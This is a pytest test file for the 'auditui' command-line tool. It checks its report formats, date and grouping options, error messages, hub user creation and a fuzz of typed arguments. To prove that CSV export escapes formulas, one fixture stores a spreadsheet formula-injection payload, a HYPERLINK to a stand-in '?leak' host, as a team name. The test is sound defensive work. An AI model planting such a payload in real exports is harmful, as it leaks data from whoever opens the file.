"""`auditui report` and `auditui hub add-user` as a user runs them (real processes).

Hostile names from a hub never run in a spreadsheet (every CSV cell goes
through ``export.cells``, as ``export csv``); a hub path of any length is one
sentence and exit 1; a period is typed ISO or UK; the groupings by case
type, kind and auditor; a personal login is printed once in its URL.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from sync_support import (
    PgHub,
    finished_audit,
    make_config,
    open_workspace,
    subprocess_env,
    write_config,
)

EVIL = '=HYPERLINK("http://example.invalid/?leak","Click")'


def run(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "auditui", *map(str, args)],
        capture_output=True,
        text=True,
        env=subprocess_env(),
        timeout=120,
    )


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """A local store with audits of two teams, one named like a formula, in two months."""
    import datetime as dt

    path = tmp_path / "a.db"
    ws = open_workspace(path, make_config(tmp_path))
    for n in range(2):
        finished_audit(ws, f"CIN-{n}", "note", team=EVIL, ended_on=dt.date(2026, 2, 10 + n))
    finished_audit(ws, "CIN-9", "note", team="North", ended_on=dt.date(2026, 3, 2))
    finished_audit(ws, "CIN-8", "note", tool_id="childs-voice", team="North", finalise=False)
    ws.close()
    return path


def _cli(tmp_path: Path, db: Path, *args: str) -> subprocess.CompletedProcess[str]:
    config = write_config(tmp_path / "config.toml", tmp_path / "hub-key")
    return run("--db", db, "--config", config, *args)


def test_report_csv_writes_every_cell_formula_safe(tmp_path: Path, db: Path) -> None:
    done = _cli(tmp_path, db, "report", "--by", "team", "--format", "csv")
    assert done.returncode == 0, done.stderr
    assert not any(line.startswith("=") or ",=" in line for line in done.stdout.splitlines())
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["group"] for r in rows] == ["all", "'" + EVIL, "North"]
    assert rows[0]["audits"] == "4"


def test_a_hub_path_of_any_length_is_one_sentence(tmp_path: Path, db: Path) -> None:
    for target in ("x" * 100_000, str(tmp_path / ("d" * 300) / "hub")):
        done = _cli(tmp_path, db, "report", "--hub", target)
        assert done.returncode == 1, done.stderr[:300]
        assert "Traceback" not in done.stderr and len(done.stderr.splitlines()) == 1
        assert len(done.stderr) < 400


def test_a_period_typed_iso_or_uk_and_the_new_groupings(tmp_path: Path, db: Path) -> None:
    def report(*args: str) -> dict[str, object]:
        done = _cli(tmp_path, db, "report", "--format", "json", *args)
        assert done.returncode == 0, done.stderr
        result: dict[str, object] = json.loads(done.stdout)
        return result

    whole = report()
    february = report("--from", "01/02/2026", "--to", "2026-02-28", "--by", "team")
    assert whole["audits"] == 4 and february["audits"] == 2
    assert (february["from"], february["to"]) == ("2026-02-01", "2026-02-28")
    assert [g["group"] for g in february["groups"]] == [EVIL]  # type: ignore[attr-defined]
    since = report("--from", "2026-03-01", "--by", "kind")
    assert since["audits"] == 2 and since["to"] is None
    by_type = report("--by", "case_type")
    assert sum(g["audits"] for g in by_type["groups"]) == 4  # type: ignore[attr-defined]
    by_auditor = report("--by", "auditor")
    assert [g["audits"] for g in by_auditor["groups"]] == [4]  # type: ignore[index]
    for bad in (("--from", "31/02/2026"), ("--from", "2026-03-01", "--to", "2026-02-01")):
        refused = _cli(tmp_path, db, "report", *bad)
        assert refused.returncode == 1 and len(refused.stderr.splitlines()) == 1, bad
        assert "Traceback" not in refused.stderr


@pytest.mark.postgres
def test_hub_add_user_prints_the_login_url_once(tmp_path: Path, pg_hub: PgHub, db: Path) -> None:
    import uuid

    name = f"auditor_{uuid.uuid4().hex[:6]}"
    done = _cli(tmp_path, db, "hub", "add-user", pg_hub.admin, name, "--role", "reader")
    assert done.returncode == 0, done.stderr
    url = done.stdout.splitlines()[-1]
    assert url.startswith(f"postgresql://{name}:")
    report = _cli(tmp_path, db, "report", "--hub", url, "--format", "json")
    assert report.returncode == 0, report.stderr
    again = _cli(tmp_path, db, "hub", "add-user", pg_hub.admin, name, "--role", "reader")
    assert again.returncode == 1 and "already exists" in again.stderr
    assert url.split(":")[2].split("@")[0] not in again.stderr
    init = _cli(tmp_path, db, "hub", "init", pg_hub.admin)
    assert init.returncode == 0 and "authenticates logins by" in init.stdout


def test_fuzzed_report_arguments_give_a_report_or_one_sentence(tmp_path: Path, db: Path) -> None:
    """Seeded fuzz over what a person can type: periods, groupings, hub paths and URLs."""
    import random

    from auditui.errors import AuditUIError
    from auditui.services.report import build_report

    rng = random.Random(1205)
    dates = ["2026-02-01", "01/02/2026", "1/2/2026", "2026-02-30", "31/13/2026", "", " ", "x"]
    hubs = [None] * 6 + [str(tmp_path / "none"), "", "\x00", "postgresql://", "postgresql://%zz@/x"]
    # (A line break typed into a date is echoed by parse_date: reported, not fuzzed here.)
    pieces = ["/", "..", "é", "\x1b[31m", "%", "?", "#", "=", "d" * 300]
    ws = open_workspace(db, make_config(tmp_path))
    outcomes = {"report": 0, "refused": 0}
    try:
        for _ in range(400):

            def pick(options: list[str | None]) -> str | None:
                value = rng.choice(options)
                if value and rng.random() < 0.3:
                    value += "".join(rng.choice(pieces) for _ in range(rng.randint(1, 4)))
                return value

            args = {
                "hub": pick(hubs),  # type: ignore[arg-type]
                "by": rng.choice([None, "team", "case_type", "kind", "auditor", "nope", ""]),
                "start": pick([None, *dates]),  # type: ignore[list-item]
                "end": pick([None, *dates]),  # type: ignore[list-item]
            }
            try:
                report = build_report(ws, index_path=tmp_path / "index.db", **args)
            except AuditUIError as exc:
                assert "\n" not in exc.message.strip(), args
                outcomes["refused"] += 1
            else:
                assert report["audits"] in (0, 1, 2, 3, 4), args
                outcomes["report"] += 1
    finally:
        ws.close()
    assert outcomes["report"] > 10 and outcomes["refused"] > 100, outcomes


@pytest.fixture
def demo_db(tmp_path: Path) -> Path:
    """A local store of 60 varied demo audits, on tools that mark measures."""
    from auditui.services.demo import generate_demo

    path = tmp_path / "demo.db"
    ws = open_workspace(path, make_config(tmp_path))
    generate_demo(ws, 60, seed=9)
    ws.close()
    return path


def test_report_measures_json_csv_and_table_say_the_same(tmp_path: Path, demo_db: Path) -> None:
    done = _cli(tmp_path, demo_db, "report", "measures", "--by", "month", "--format", "json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    keys = ["tool", "question", "label", "target", "counted", "yes", "pct", "met"]
    assert report["measures"] and all(list(m) == keys for m in report["measures"])
    assert all(list(m) == keys for g in report["groups"] for m in g["measures"])
    for m in report["measures"]:  # the spec's definitions, on the printed figures
        if m["counted"]:
            assert m["pct"] == round(100 * m["yes"] / m["counted"] + 1e-9, 1)
            if m["target"] is not None:
                assert m["met"] == (100 * m["yes"] >= m["target"] * m["counted"])
        else:
            assert m["pct"] is None and m["met"] is None
    for m in report["measures"]:  # each group's figures add up to the whole
        in_groups = [
            x
            for g in report["groups"]
            for x in g["measures"]
            if (x["tool"], x["question"]) == (m["tool"], m["question"])
        ]
        assert sum(x["counted"] for x in in_groups) == m["counted"]
        assert sum(x["yes"] for x in in_groups) == m["yes"]
    plain = json.loads(_cli(tmp_path, demo_db, "report", "--format", "json").stdout)
    assert plain["measures"] == report["measures"]  # `report --format json` carries them too
    done = _cli(tmp_path, demo_db, "report", "measures", "--by", "month", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert len(rows) == len(report["measures"]) + sum(len(g["measures"]) for g in report["groups"])
    assert rows[0]["label"] == report["measures"][0]["label"]
    table = _cli(tmp_path, demo_db, "report", "measures").stdout
    shown = next(m for m in report["measures"] if m["counted"] and m["target"] is not None)
    assert shown["label"][:20] in table and f"{shown['pct']:.1f}%" in table


def test_report_measures_refuses_what_it_cannot_count_in_one_sentence(
    tmp_path: Path, demo_db: Path
) -> None:
    done = _cli(tmp_path, demo_db, "report", "measures", "--from", "31/02/2026")
    assert done.returncode == 1 and "no such day" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    done = _cli(tmp_path, demo_db, "report", "measures", "--by", "section")
    assert done.returncode == 2 and "section" in done.stderr
